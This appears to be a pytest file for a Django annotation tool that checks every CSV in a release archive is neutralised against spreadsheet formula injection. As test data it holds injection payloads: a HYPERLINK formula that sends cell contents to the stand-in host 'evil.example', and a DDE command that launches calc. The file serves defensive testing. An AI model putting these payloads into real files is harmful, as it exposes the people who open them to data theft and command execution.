"""A release built from the database, in every format, with names and texts that a
spreadsheet would run as formulas: every cell of every CSV in its archive is inert, except the
texts under judgement the benchmark layouts keep raw (docs/formats/exports.md, "Opening a CSV
in a spreadsheet"). A CSV added to the release later is checked by the same loop."""

from __future__ import annotations

import csv
import io
import re
import zipfile
from io import StringIO
from pathlib import Path
from typing import Any

import pytest
from django.core.management import call_command

from annotations.models import (
    Assignment,
    AssignmentStatus,
    Corpus,
    Document,
    ReleaseStatus,
    Round,
    RoundStatus,
    Summary,
    SummarySentence,
    Topic,
    Turn,
)
from annotations.services.releases import FORMATS, release_build, release_create
from tests.labelling import label_units

pytestmark = pytest.mark.django_db

HYPERLINK = '=HYPERLINK("http://evil.example/?"&A1,"x")'
# Per file name pattern, the columns a benchmark layout keeps byte for byte.
VERBATIM = {
    r"factual_eval_(dev|test)\.csv$": {"summ_sent"},
    r"aggrefact/aggrefact\.csv$": {"doc", "summary"},
    r"circumstantial/circumstantial\.csv$": {"summary", "dialogue"},
}


def inert(text: str) -> bool:
    """Nothing a spreadsheet runs: no tab or carriage return first, no =, +, -, @ first after
    white space, unless the cell is exactly a decimal number."""
    if not text:
        return True
    if text[0] in "\t\r":
        return False
    first = text.lstrip(" \t\r\n")[:1]
    if first == "" or first not in "=+-@":
        return True
    return re.fullmatch(r"[+-]?(\d+(\.\d*)?|\.\d+)([eE][+-]?\d+)?", text) is not None


@pytest.fixture(autouse=True)
def media(settings: Any, tmp_path: Path) -> None:
    settings.MEDIA_ROOT = tmp_path / "media"
    settings.RELEASE_BUILD_ROOT = tmp_path / "builds"


def test_every_csv_of_a_release_in_every_format_is_safe_to_open_in_a_spreadsheet() -> None:
    call_command("load_demo", stdout=StringIO())
    round_ = Round.objects.get(project__slug="demo")
    project = round_.project
    Corpus.objects.filter(project=project).update(name="+SUM(1,1)")
    for number, document in enumerate(Document.objects.filter(corpus__project=project)):
        Document.objects.filter(pk=document.pk).update(external_id=f"-{number}+cmd|' /C calc'!A0")
    for number, topic in enumerate(Topic.objects.filter(document__corpus__project=project)):
        Topic.objects.filter(pk=topic.pk).update(name=f"@SUM(A{number})")
    Turn.objects.filter(document__corpus__project=project).update(speaker="=SPEAKER()")
    for summary in Summary.objects.filter(topic__document__corpus__project=project):
        Summary.objects.filter(pk=summary.pk).update(system=f"{HYPERLINK}{summary.pk}")
    assignments = Assignment.objects.filter(round=round_)
    # One sentence of the first unit is inconsistent, with an explanation a spreadsheet would run.
    flagged = SummarySentence.objects.filter(summary__topic__assignments__in=assignments).order_by(
        "summary__topic_id", "summary_id", "position"
    )[0]
    label_units(
        assignments,
        wrong=lambda _summary, sentence: sentence == flagged,
        explanation="\t=1+1 is not what was said",
        relevance=5,
    )
    assignments.update(status=AssignmentStatus.SUBMITTED)
    Round.objects.filter(pk=round_.pk).update(status=RoundStatus.CLOSED)
    release = release_build(
        release_id=release_create(
            project=project,
            user=None,
            config={
                "version": "1.0.0",
                "rounds": [round_.pk],
                "formats": list(FORMATS),
                "split": {"method": "document", "dev": 0.5, "seed": 13},
            },
        ).pk
    )
    assert release.status == ReleaseStatus.PUBLISHED, release.error

    with zipfile.ZipFile(release.archive.path) as packed:
        names = [name for name in packed.namelist() if name.endswith(".csv")]
        tables = {
            name: list(csv.DictReader(io.StringIO(packed.read(name).decode(), newline="")))
            for name in names
        }
    # Every CSV a release writes, whatever the formats, and each benchmark layout's.
    assert {"records.csv", "scores.csv", "system_scores.csv"} <= set(names)
    assert any(name.startswith("tofueval/factual_consistency/") for name in names)
    assert "aggrefact/aggrefact.csv" in names
    assert "circumstantial/circumstantial.csv" in names
    for name, rows in tables.items():
        assert rows, name
        raw = set().union(*(cols for pattern, cols in VERBATIM.items() if re.search(pattern, name)))
        for line, row in enumerate(rows, start=2):
            for column, value in row.items():
                if column not in raw:
                    assert inert(value), f"{name}, line {line}, {column}: {value!r}"

    neutral = "'" + HYPERLINK
    assert all(row["system"].startswith(neutral) for row in tables["records.csv"])
    assert all(row["system"].startswith(neutral) for row in tables["system_scores.csv"])
    # The error rates per summarizer (analysis/) name the systems too.
    assert all(row["system"].startswith(neutral) for row in tables["analysis/error_rates.csv"])
    assert all(row["system"].startswith(neutral) for row in tables["analysis/error_types.csv"])
    assert all(
        row["model"].startswith(neutral) for row in tables["circumstantial/circumstantial.csv"]
    )
    assert {row["origin"] for row in tables["circumstantial/circumstantial.csv"]} == {"'+SUM(1,1)"}
    assert all(row["topic"].startswith("'@SUM(A") for row in tables["scores.csv"])
    assert all(row["doc_id"].startswith("'-") for row in tables["records.csv"])
    factual = [row for name, rows in tables.items() if "factual_eval" in name for row in rows]
    explanations = {row["exp"] for row in factual} - {""}
    assert explanations
    assert all(text.startswith("'\t=1+1 is not what was said") for text in explanations)
    # The dialogue an evaluator reads stays as it is, speaker and all.
    assert all(
        row["dialogue"].startswith("=SPEAKER(): ")
        for row in tables["circumstantial/circumstantial.csv"]
    )
    # Scores are numbers, not neutralised text.
    assert all(
        float(row["faithfulness"]) >= 0 for row in tables["scores.csv"] if row["faithfulness"]
    )
